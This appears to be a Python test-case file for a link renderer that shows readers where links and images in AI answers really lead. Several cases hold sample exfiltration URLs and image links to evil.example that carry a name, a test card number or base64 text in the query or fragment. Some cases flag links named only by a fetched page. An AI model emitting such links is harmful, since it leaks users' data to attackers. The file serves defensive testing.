"""Links in answers and what a reader must see of them, for the server and for the page that is being written to.

Each case: the Markdown, the hosts that only text from outside named, and the text shown.
"""

LONG = "Alice%20Archer%2C%20card%204111%201111%201111%201111"
CASES: tuple[tuple[str, tuple[str, ...], str], ...] = (
    ("See [the manual](https://docs.example.org/z9).", (), "See the manual docs.example.org."),
    ("[docs.example.org](https://docs.example.org/z9)", (), "docs.example.org"),
    ("[www.example.org](https://example.org/)", (), "www.example.org"),
    ("<https://example.org/a>", (), "https://example.org/a"),
    ("[bank.example](https://evil.example/)", (), "bank.example evil.example"),
    ("[https://bank.example](https://bank.example@evil.example/)", (), "https://bank.example evil.example"),
    ("[bank.example, evil.example](https://evil.example/)", (), "bank.example, evil.example evil.example"),
    ("[notevil.example](https://evil.example/)", (), "notevil.example evil.example"),
    ("[README.md](https://code.example/README.md)", (), "README.md code.example"),
    ("[**bold**](https://example.org)", (), "bold example.org"),
    ("[x](https://EXAMPLE.org/ 'title')", (), "x example.org"),
    ("[write](mailto:help@example.org)", (), "write help@example.org"),
    ("[help@example.org](mailto:help@example.org)", (), "help@example.org"),
    ("![a chart](https://evil.example/p.png)", (), "a chart (picture on evil.example)"),
    ("![](https://evil.example/p.png)", (), "Picture on evil.example"),
    ("![bank.example](https://evil.example/p.png)", (), "bank.example (picture on evil.example) evil.example"),
    ("[![a](https://evil.example/p.png)](https://example.org)", (), "a (picture on evil.example) example.org"),
    ("![x](data:image/png;base64,AAAA)", (), "x (picture)"),
    ("[x](javascript:alert(1))", (), "[x](javascript:alert(1))"),
    ("[x](/account/logout/)", (), "x"),
    ("[search](https://example.org/?q=pump)", (), "search example.org"),
    (
        f"[more](https://evil.example/?d={LONG})",
        (),
        "more evil.example sends “d=Alice Archer, card 4111 1111 1111 1111”",
    ),
    (
        f"![](https://evil.example/p.png?d={LONG})",
        (),
        "Picture on evil.example sends “d=Alice Archer, card 4111 1111 1111 1111”",
    ),
    ("[m](https://evil.example/#c2VjcmV0IG5vdGVzIG9m)", (), "m evil.example sends “c2VjcmV0IG5vdGVzIG9m”"),
    ("[the form](https://evil.example/f)", ("evil.example",), "the form evil.example from a page it read"),
    ("[evil.example](https://evil.example/f)", ("evil.example",), "evil.example from a page it read"),
    ("[ok](https://example.org)", ("evil.example",), "ok example.org"),
)
